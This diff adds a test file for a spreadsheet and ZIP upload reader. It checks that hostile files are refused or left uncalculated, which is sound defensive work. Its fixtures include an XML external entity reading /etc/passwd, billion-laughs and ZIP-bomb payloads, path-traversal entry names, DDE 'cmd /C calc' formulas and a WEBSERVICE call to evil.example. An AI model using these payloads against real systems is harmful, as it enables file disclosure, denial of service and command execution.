@@ -1,0 +1,386 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Readable } from 'node:stream';
+import { deflateRawSync } from 'node:zlib';
+import { monument } from '@ar/domain/entities/monument';
+import { maxBytesOf, tooLarge } from '@ar/domain/upload';
+import { afterAll, beforeAll, expect, test } from '@rstest/core';
+import { strToU8, zipSync } from 'fflate';
+import { FORMULA } from '../../platform/database/import-types.ts';
+import { DIST } from '../../testing/programs.ts';
+import { localArchive, openArchive } from './archive-files.ts';
+import { suggestFields } from './columns.ts';
+import { finderIn } from './find-file.ts';
+import { readSheet } from './reading/read-sheet.ts';
+import { readTable } from './reading/read-table.ts';
+import { type SheetProblem, SheetRefused } from './reading/sheet-problems.ts';
+import { tableOf } from './table-choice.ts';
+import {
+  compound,
+  HEADED,
+  patched,
+  rowOf,
+  sheetXml,
+  text,
+  workbook,
+  workbookParts,
+  zip64,
+} from './testing/workbooks.ts';
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'hostile-'));
+});
+afterAll(() => rm(folder, { recursive: true }));
+
+let made = 0;
+async function fileOf(content: Uint8Array | string): Promise<string> {
+  made += 1;
+  const path = join(folder, String(made));
+  await writeFile(path, content);
+  return path;
+}
+const read = async (content: Uint8Array | string) => {
+  const file = await readTable(Buffer.from(content as Uint8Array));
+  return { ...tableOf(file, monument, new Map()), is1904: file.is1904 };
+};
+const readApart = async (content: Uint8Array | string) =>
+  readSheet(join(DIST, 'sheet-reader.js'), await fileOf(content));
+
+/** A little more than what may shrink as far as it likes. */
+const ZEROS = new Uint8Array(21 * 1024 * 1024);
+const MANY_ROWS = `${HEADED}${'<row/>'.repeat(5000)}${rowOf('a', 'b').repeat(5001)}`;
+const PART = 'xl/worksheets/sheet1.xml';
+const EXTERNAL = sheetXml(rowOf('&x;'), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
+const withPart = (xml: string | Uint8Array) =>
+  workbook('', { [PART]: typeof xml === 'string' ? strToU8(xml) : xml });
+
+// ASVS 1.5.1
+test.each<[string, SheetProblem, () => Uint8Array | string]>([
+  ['zero bytes', 'empty', () => ''],
+  ['white space alone', 'empty', () => ' \n \n'],
+  ['headings alone', 'no-rows', () => workbook(HEADED)],
+  [
+    'more empty rows than there may be rows',
+    'no-rows',
+    () => workbook(`${HEADED}${'<row/>'.repeat(10_000)}`),
+  ],
+  [
+    'numbers where headings should be',
+    'no-headings',
+    () => workbook('<row><c><v>1</v></c></row><row><c><v>2</v></c></row>'),
+  ],
+  ['5001 rows', 'too-many-rows', () => workbook(MANY_ROWS)],
+  ['5001 rows of CSV', 'too-many-rows', () => `Naziv;Adresa\n${'a;b\n'.repeat(5001)}`],
+  [
+    '16,384 columns',
+    'too-many-columns',
+    () => workbook(`<row>${text('a').repeat(16_384)}</row>${rowOf('a')}`),
+  ],
+  [
+    'two cells in far corners',
+    'too-large',
+    () =>
+      workbook(
+        '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>',
+      ),
+  ],
+  ['a bomb in a part', 'too-large', () => zipSync(workbookParts(HEADED, { 'xl/media/a.bin': ZEROS }))],
+  ['a bomb that says it is small', 'damaged', () => liar()],
+  ['overlapping parts', 'too-large', () => overlapping()],
+  [
+    'a part of five terabytes, in ZIP64',
+    'too-large',
+    () => zip64(workbookParts(HEADED + rowOf('a', 'b')), PART, 5_000_000_000_000n),
+  ],
+  [
+    'a part of 130 megabytes beside one that is stored as it is',
+    'too-large',
+    () =>
+      zip64(
+        workbookParts(HEADED + rowOf('a', 'b'), { 'xl/a.bin': [new Uint8Array(2 ** 20), { level: 0 }] }),
+        PART,
+        130_000_000n,
+      ),
+  ],
+  ['2001 parts more than it needs', 'too-large', () => workbook(HEADED + rowOf('a', 'b'), manyParts())],
+  ['a long text that is merged over 1300 rows', 'too-large', () => merged()],
+  [
+    'a part that is larger than its ZIP64 field says',
+    'damaged',
+    () => zip64(workbookParts(HEADED + rowOf('a', 'b')), PART, 1n),
+  ],
+  ['a ZIP in a ZIP', 'not-a-sheet', () => zipSync({ 'a.xlsx': workbook(HEADED + rowOf('a', 'b')) })],
+  [
+    'a workbook of LibreOffice’s own format',
+    'not-a-sheet',
+    () => zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet') }),
+  ],
+  ['a workbook whose sheet is missing', 'damaged', () => withoutSheet()],
+  ['a million shared texts', 'too-large', () => sharedTexts(1_000_000)],
+  ['an external entity', 'entities', () => withPart(EXTERNAL)],
+  [
+    'a billion laughs',
+    'entities',
+    () => withPart(sheetXml(rowOf('&b;'), '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>')),
+  ],
+  ['an external entity in UTF-16', 'entities', () => withPart(Buffer.from(`\ufeff${EXTERNAL}`, 'utf16le'))],
+  [
+    'an external entity in a sheet of another extension',
+    'entities',
+    () => sheetNamed('sheet1.dat', strToU8(EXTERNAL)),
+  ],
+  [
+    'an external entity after white space in UTF-16, in a sheet called a picture',
+    'entities',
+    () => sheetNamed('sheet1.png', Buffer.from(`\ufeff\n  ${EXTERNAL}`, 'utf16le')),
+  ],
+  ['an encrypted workbook', 'locked', () => compound('EncryptedPackage')],
+  ['an old workbook', 'old-excel', () => compound('Workbook')],
+  ['a truncated workbook', 'damaged', () => workbook(HEADED + rowOf('a', 'b')).subarray(0, 600)],
+  ['a wrong checksum', 'damaged', () => spoiled()],
+  ['a ZIP of something else', 'not-a-sheet', () => zipSync({ 'word/document.xml': strToU8('<a/>') })],
+  [
+    'a part that is a path out of the folder',
+    'damaged',
+    () => zipSync(workbookParts(HEADED, { '../a.xml': strToU8('<a/>') })),
+  ],
+  ['a sheet that is no XML', 'damaged', () => withPart('<worksheet><sheetData><row')],
+  ['a PDF', 'not-a-sheet', () => '%PDF-1.7\n1;2\n3;4'],
+  ['a picture', 'not-a-sheet', () => Buffer.from('89504e470d0a1a0a0000', 'hex')],
+  ['a web page called a table', 'web-page', () => '<html><table><tr><td>Naziv</td></tr></table></html>'],
+  ['UTF-16 without its mark', 'not-text', () => Buffer.from('Naziv;Adresa\na;c\n', 'utf16le')],
+  ['what is text in no encoding', 'not-text', () => Buffer.from('Naziv;Adresa\n\x81\x83\x90;b\n', 'latin1')],
+  ['a lone quote before a long file', 'long-cell', () => `Naziv;Adresa\n"a;b\n${'c;d\n'.repeat(20_000)}`],
+  ['one line of ten megabytes', 'long-cell', () => `Naziv\n${'a'.repeat(10_000_000)}`],
+])('refuses %s', async (_name, problem, make) => {
+  const refused = await read(make()).catch((error: unknown) => error);
+  expect(refused).toBeInstanceOf(SheetRefused);
+  expect((refused as SheetRefused).problem).toBe(problem);
+});
+
+/** A part whose directory says that it unpacks to a hundredth of what it does. */
+function liar(): Uint8Array {
+  const content = Buffer.alloc(1_234_567, 'a');
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(content.length);
+  const small = Buffer.alloc(4);
+  small.writeUInt32LE(12_345);
+  return patched(zipSync(workbookParts(HEADED, { 'xl/a.xml': content })), size, small);
+}
+
+/** Entries of a directory that all point to the same bytes, more of them than there are. */
+function overlapping(): Uint8Array {
+  const parts = workbookParts(HEADED + rowOf('a'), { 'xl/a.bin': deflateRawSync(Buffer.alloc(100)) });
+  const file = Buffer.from(zipSync(parts, { level: 0 }));
+  // The compressed size of every entry in the directory.
+  for (let at = file.indexOf('PK\x01\x02'); at >= 0; at = file.indexOf('PK\x01\x02', at + 4)) {
+    file.writeUInt32LE(file.length, at + 20);
+    file.writeUInt32LE(file.length, at + 24);
+  }
+  return file;
+}
+
+const manyParts = () =>
+  Object.fromEntries(Array.from({ length: 2001 }, (_, at) => [`xl/${at}.bin`, new Uint8Array()]));
+
+/** Forty megabytes of texts, once each row has what is merged over it. */
+function merged(): Uint8Array {
+  const rows = rowOf('a'.repeat(32_000), 'b') + `<row><c/>${text('b')}</row>`.repeat(1300);
+  const merge = '<mergeCells count="1"><mergeCell ref="A2:A1302"/></mergeCells>';
+  return withPart(sheetXml(HEADED + rows).replace('</worksheet>', `${merge}</worksheet>`));
+}
+
+/** A workbook whose sheet has another name. */
+function sheetNamed(name: string, sheet: Uint8Array): Uint8Array {
+  const { [PART]: _, ...parts } = workbookParts('');
+  const relations = new TextDecoder().decode(parts['xl/_rels/workbook.xml.rels'] as Uint8Array);
+  return zipSync({
+    ...parts,
+    'xl/_rels/workbook.xml.rels': strToU8(relations.replace('sheet1.xml', name)),
+    [`xl/worksheets/${name}`]: sheet,
+  });
+}
+
+function withoutSheet(): Uint8Array {
+  const { [PART]: _, ...parts } = workbookParts(HEADED);
+  return zipSync(parts);
+}
+
+/** A workbook with so many texts that its cells may share. */
+function sharedTexts(count: number): Uint8Array {
+  const texts = `<sst>${'<si><t>tekst</t></si>'.repeat(count)}</sst>`;
+  return workbook(HEADED + rowOf('a', 'b'), { 'xl/sharedStrings.xml': strToU8(texts) });
+}
+
+function spoiled(): Uint8Array {
+  const file = Buffer.from(zipSync(workbookParts(HEADED + rowOf('dobar', 'b')), { level: 0 }));
+  file.write('losij', file.indexOf('dobar'));
+  return file;
+}
+
+test('a table has no more rows than may be imported, and some above them', async () => {
+  const rows = (count: number) => readTable(Buffer.from('a\n'.repeat(count)));
+  expect((await rows(5100)).rows).toHaveLength(5100);
+  await expect(rows(5101)).rejects.toEqual(new SheetRefused('too-many-rows'));
+});
+
+test('reads apart from the server', async () => {
+  expect((await readApart('Naziv;Adresa\na;b\n')).rows.at(1)).toEqual({ row: 2, cells: ['a', 'b'] });
+});
+
+test('a reader that takes more than 160 megabytes ends alone, and the file is called too large', async () => {
+  const greedy = join(folder, 'greedy.cjs');
+  await writeFile(
+    greedy,
+    `process.send('began');
+    const all = [];
+    for (let at = 0; at < 40; at += 1) all.push(new Array(1e6).fill(at + 0.5));
+    process.send({ end: { is1904: false } });`,
+  );
+  await expect(readSheet(greedy, '')).rejects.toEqual(new SheetRefused('too-large'));
+});
+
+test('a file has its time from when it is read, not from when a busy machine was asked to start the reader', async () => {
+  const endless = join(folder, 'endless.cjs');
+  await writeFile(endless, "process.send('began'); setInterval(() => {}, 1000);");
+  await expect(readSheet(endless, '', { patienceMs: 1 })).rejects.toEqual(new SheetRefused('too-slow'));
+});
+
+const CYRILLIC_FREE = 'Naziv;Adresa\r\nČesma "đak";Šćepan\r\n';
+const utf16 = (text: string, mark: string) =>
+  Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(text, 'utf16le')]);
+const windows1250 = (text: string) =>
+  Buffer.from(
+    text.replace('Č', '\xc8').replace('đ', '\xf0').replace('Š', '\x8a').replace('ć', '\xe6'),
+    'latin1',
+  );
+
+test.each<[string, Uint8Array | string]>([
+  ['UTF-8', CYRILLIC_FREE],
+  ['UTF-8 with its mark', `\uFEFF${CYRILLIC_FREE}`],
+  ['Windows-1250', windows1250(CYRILLIC_FREE)],
+  ['UTF-16', utf16(CYRILLIC_FREE, 'fffe')],
+  ['UTF-16, the other way round', utf16(CYRILLIC_FREE, 'fffe').swap16()],
+  ['commas', CYRILLIC_FREE.replaceAll(';', ',')],
+  ['tabs', CYRILLIC_FREE.replaceAll(';', '\t')],
+  ['bars', CYRILLIC_FREE.replaceAll(';', '|')],
+  ['a separator that Excel names', `sep=;\r\n${CYRILLIC_FREE}`],
+])('reads CSV in %s', async (_name, content) => {
+  const { headings, rows } = await read(content);
+  expect(headings).toEqual(['Naziv', 'Adresa']);
+  expect(rows).toMatchObject([{ cells: ['Česma "đak"', 'Šćepan'] }]);
+});
+
+test('reads the first of two sheets, rows by their numbers, and texts that look like formulas as texts', async () => {
+  const more = { 'xl/worksheets/sheet2.xml': strToU8(sheetXml(rowOf('Drugi'))) };
+  const cells = `${HEADED}<row r="3">${text("=cmd|' /C calc'!A0")}${text("'=1+1")}</row>`;
+  expect((await read(workbook(cells, more))).rows).toEqual([
+    { row: 3, cells: ["=cmd|' /C calc'!A0", "'=1+1"] },
+  ]);
+});
+
+test('a formula counts by the value that was kept with it, and is never calculated', async () => {
+  const cells = '<row><c><f>1+1</f><v>2</v></c><c><f>WEBSERVICE("http://evil.example")</f></c></row>';
+  expect((await read(workbook(HEADED + cells))).rows).toMatchObject([{ cells: [2, FORMULA] }]);
+});
+
+test('a picture that speaks of document types in its own bytes is nobody’s entity', async () => {
+  const picture = Buffer.from('\x89PNG\r\n\x1a\n<!DOCTYPE svg>', 'latin1');
+  const { rows } = await read(workbook(HEADED + rowOf('a', 'b'), { 'xl/media/a.png': picture }));
+  expect(rows).toMatchObject([{ cells: ['a', 'b'] }]);
+});
+
+// ASVS 1.2.5
+test('an old exchange of data with another program is neither started nor read', async () => {
+  const cells = `<row><c><f>cmd|'/C calc'!A0</f></c>${text('a')}</row>`;
+  const link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>';
+  const more = { 'xl/externalLinks/externalLink1.xml': strToU8(link) };
+  expect((await read(workbook(HEADED + cells, more))).rows).toMatchObject([{ cells: [FORMULA, 'a'] }]);
+});
+
+test('of two equal headings the first alone is recognised', () => {
+  expect(suggestFields(monument, ['Naziv', 'NAZIV', 'Adresa'], [], new Map())).toEqual([
+    'name',
+    null,
+    'address',
+  ]);
+});
+
+test('days are counted from 1904 where the workbook says so', async () => {
+  const parts = workbookParts(HEADED + rowOf('a', 'b'));
+  const main = new TextDecoder().decode(parts['xl/workbook.xml'] as Uint8Array);
+  const more = { 'xl/workbook.xml': strToU8(main.replace('<sheets>', '<workbookPr date1904="1"/><sheets>')) };
+  expect((await read(zipSync({ ...parts, ...more }))).is1904).toBe(true);
+});
+
+const small = strToU8('a');
+const folders = (count: number) =>
+  Object.fromEntries(Array.from({ length: count }, (_, at) => [`${at}/`, new Uint8Array()]));
+const entry = (name: string, attributes?: number): Uint8Array =>
+  zipSync({ [name]: [small, attributes === undefined ? {} : { os: 3, attrs: attributes }] });
+
+test.each<[string, string, () => Uint8Array]>([
+  ['a path out of the folder', 'zip-names', () => entry('../../etc/passwd')],
+  ['an absolute path', 'zip-names', () => entry('/etc/passwd')],
+  ['a symbolic link', 'zip-links', () => entry('slika.png', 0o120777 << 16)],
+  ['a path with backslashes out of the folder', 'zip-names', () => entry('..\\..\\a.pdf')],
+  ['a drive of Windows', 'zip-names', () => entry('C:/a.pdf')],
+  ['a zero byte in a name', 'zip-names', () => entry('a.pdf\0.exe')],
+  ['two files of one path', 'zip-twice', () => twice()],
+  [
+    'a file of five terabytes, in ZIP64',
+    'zip-bomb',
+    () => zip64({ 'a.pdf': small }, 'a.pdf', 5_000_000_000_000n),
+  ],
+  ['a bomb', 'zip-bomb', () => zipSync({ 'a.pdf': ZEROS })],
+  ['too many folders', 'zip-many', () => zipSync(folders(20_001))],
+  ['overlapping entries', 'zip-bomb', () => overlapping()],
+  ['no ZIP', 'zip-damaged', () => strToU8('nije zip'.repeat(10))],
+  ['a truncated ZIP', 'zip-damaged', () => entry('a.pdf').subarray(0, 60)],
+  ['a password', 'zip-locked', () => encrypted()],
+])('refuses a ZIP of files with %s', async (_name, code, make) => {
+  const content = make();
+  const refused = await openArchive(await fileOf(content), content.length).catch((error: unknown) => error);
+  expect(String(refused)).toContain(code);
+});
+
+test('a file of a ZIP that is larger than one may be is not unpacked', async () => {
+  const size = maxBytesOf('image') + 1;
+  const zip = zipSync({ 'a.png': [new Uint8Array(size), { level: 0 }] });
+  const read = async () => Readable.from([Buffer.from(zip)]);
+  const scan = () => Promise.reject(new Error('It was unpacked.'));
+  const unpacking = { store: { read }, incoming: folder, scan, log: {} as never };
+  const archive = localArchive(unpacking, { storage_key: 'a.zip', size: zip.length });
+  expect(await archive.inspect({ path: 'a.png', field: 'image', kind: 'image' })).toEqual({
+    problem: tooLarge('image'),
+  });
+  await archive.close();
+});
+
+test('a ZIP in a ZIP of files is a file, and names that Windows keeps for itself are names', async () => {
+  const content = zipSync({ 'unutra.zip': entry('a.pdf'), 'NUL.pdf': small, 'aux/CON': small });
+  const archive = await openArchive(await fileOf(content), content.length);
+  archive.close();
+  expect(archive.entries.map(({ path }) => path)).toEqual(['unutra.zip', 'NUL.pdf', 'aux/CON']);
+});
+
+test.each([
+  ['case', 'slika.png', 'SLIKA.png'],
+  ['the form of their letters', 'čošak.png'.normalize('NFC'), 'čošak.png'.normalize('NFD')],
+])('of two files whose names differ by %s alone, none is guessed', (_what, one, other) => {
+  const find = finderIn([one, other].map((path) => ({ path, size: 1 })))();
+  expect([find(one, null), find(other, null)]).toEqual([{ path: one }, { path: other }]);
+  expect(find(`/${one}`, null)).toHaveProperty('problem', expect.stringContaining('zip-paths-alike?'));
+});
+
+/** Two entries of the same path. */
+const twice = () =>
+  patched(zipSync({ 'a.pdf': small, 'b.pdf': small }), Buffer.from('b.pdf'), Buffer.from('a.pdf'));
+
+function encrypted(): Uint8Array {
+  const file = Buffer.from(entry('a.pdf'));
+  file.writeUInt16LE(1, file.indexOf('PK\x01\x02') + 8);
+  return file;
+}
